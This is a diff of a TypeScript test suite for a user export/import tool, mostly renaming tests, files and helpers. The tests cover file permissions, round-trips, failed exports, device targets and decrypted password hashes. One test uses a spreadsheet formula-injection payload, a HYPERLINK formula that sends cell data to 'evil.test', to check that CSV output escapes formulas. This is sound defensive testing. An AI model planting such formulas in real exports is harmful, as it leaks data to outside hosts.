@@ -1,4 +1,4 @@
-/** Export: where it writes, and that an import of it brings the same people back. */
+/** Export: its output, and that an import restores the same users. */
 import assert from 'node:assert/strict'
 import { readdir, readFile, stat, symlink, writeFile } from 'node:fs/promises'
 import { join } from 'node:path'
@@ -6,13 +6,13 @@ import { suite, test } from 'node:test'
 
 import { parse } from 'csv-parse/sync'
 
-import { configuredEncryption } from '../../../plugins/encryption.ts'
+import { configuredEncryption } from '../../../plugins/security/encryption/index.ts'
 import { query } from '../../db/sql.ts'
 import { configOf } from '../../support/config.ts'
 import { cloneDatabase } from '../../support/database.ts'
 import {
-  everybody,
   fileOf,
+  listAllUsers,
   passwordHash,
   startUsers,
   temporaryFolder,
@@ -22,20 +22,20 @@ import {
 
 suite('users export', () => {
   for (const format of ['ndjson', 'csv']) {
-    test(`what is exported as ${format} and imported elsewhere is the same`, async (t) => {
+    test(`exports as ${format} and restores by import in another database`, async (t) => {
       const [from, to] = [await cloneDatabase(t), await cloneDatabase(t)]
       const folder = await temporaryFolder(t)
-      await users(from.url, 'import', await fileOf(t, 'people.ndjson', various))
-      const file = join(folder, `people.${format}`)
-      await writeFile(file, 'left by somebody', { mode: 0o644 })
+      await users(from.url, 'import', await fileOf(t, 'users.ndjson', various))
+      const file = join(folder, `users.${format}`)
+      await writeFile(file, 'left by a user', { mode: 0o644 })
       await writeFile(`${file}.part`, 'left by an export that was killed')
       assert.match((await users(from.url, 'export', file)).stderr, /^6 exported/)
       assert.equal((await stat(file)).mode & 0o777, 0o600)
       const { stdout } = await users(to.url, 'import', file)
-      assert.match(stdout, /^6 imported, 0 refused/)
+      assert.match(stdout, /^6 imported, 0 rejected/)
       await assert.rejects(stat(`${file}.refused.ndjson`), { code: 'ENOENT' })
-      const brought = await everybody(to.url)
-      assert.deepEqual(brought, await everybody(from.url))
+      const brought = await listAllUsers(to.url)
+      assert.deepEqual(brought, await listAllUsers(from.url))
       const identities = brought.map(({ identities }) => JSON.stringify(identities))
       assert.ok(
         identities.some((text) => text.includes('2021-02-03T04:05:06.789')),
@@ -44,12 +44,12 @@ suite('users export', () => {
     })
   }
 
-  test('what strangers wrote is no formula in the CSV, and comes back as it was', async (t) => {
+  test('escapes spreadsheet formulas in CSV and restores them', async (t) => {
     const [from, to] = [await cloneDatabase(t), await cloneDatabase(t)]
     const auds = ['=HYPERLINK("https://evil.test/?"&F2)', '@sum', "'=1", '\t=1', "'quoted"]
     const rows = auds.map((aud, index) => ({ email: `-1+1@x${index}.test`, aud }))
-    await users(from.url, 'import', await fileOf(t, 'people.ndjson', rows))
-    const file = join(await temporaryFolder(t), 'people.csv')
+    await users(from.url, 'import', await fileOf(t, 'users.ndjson', rows))
+    const file = join(await temporaryFolder(t), 'users.csv')
     await users(from.url, 'export', file)
 
     const cells: string[][] = parse(await readFile(file))
@@ -58,10 +58,10 @@ suite('users export', () => {
       [],
     )
     await users(to.url, 'import', file)
-    assert.deepEqual(await everybody(to.url), await everybody(from.url))
+    assert.deepEqual(await listAllUsers(to.url), await listAllUsers(from.url))
   })
 
-  test('a hash that is stored encrypted is brought along in clear', async (t) => {
+  test('exports a decrypted password hash', async (t) => {
     const { url } = await cloneDatabase(t)
     const encryption = configuredEncryption(configOf(), { isShared: false })
     const id = crypto.randomUUID()
@@ -69,33 +69,33 @@ suite('users export', () => {
       text: 'insert into auth.users (id, email, encrypted_password) values ($1, $2, $3)',
       values: [id, 'ann@example.com', encryption.encrypt(id, passwordHash)],
     })
-    const file = join(await temporaryFolder(t), 'people.ndjson')
+    const file = join(await temporaryFolder(t), 'users.ndjson')
     await users(url, 'export', file)
     assert.equal(JSON.parse(await readFile(file, 'utf8')).password_hash, passwordHash)
   })
 
-  test('an export that fails leaves the one before as it was, and nothing beside it', async (t) => {
+  test('keeps the previous file when an export fails', async (t) => {
     const folder = await temporaryFolder(t)
-    const file = join(folder, 'people.ndjson')
+    const file = join(folder, 'users.ndjson')
     await writeFile(file, 'of yesterday')
     const { code, stderr } = await users('postgres://nobody@127.0.0.1:1/none', 'export', file)
     assert.equal(code, 1, stderr)
     assert.equal(await readFile(file, 'utf8'), 'of yesterday')
-    assert.deepEqual(await readdir(folder), ['people.ndjson'])
+    assert.deepEqual(await readdir(folder), ['users.ndjson'])
   })
 
-  test('export writes to what is no file, and leaves it there', async (t) => {
+  test('writes to a device without replacing it', async (t) => {
     const { url } = await cloneDatabase(t)
-    const file = join(await temporaryFolder(t), 'people.csv')
+    const file = join(await temporaryFolder(t), 'users.csv')
     await symlink('/dev/null', file)
     const { code, stderr } = await users(url, 'export', file)
     assert.equal(code, 0, stderr)
     assert.ok((await stat(file)).isCharacterDevice())
   })
 
-  test('export without a file writes to standard output', async (t) => {
+  test('writes to standard output without a file', async (t) => {
     const { url } = await cloneDatabase(t)
-    await users(url, 'import', await fileOf(t, 'people.ndjson', various))
+    await users(url, 'import', await fileOf(t, 'users.ndjson', various))
     const { written, ended } = startUsers(t, url, 'export', '--format', 'csv')
     await ended
     assert.match(written.out, /^id,aud,role,email/)
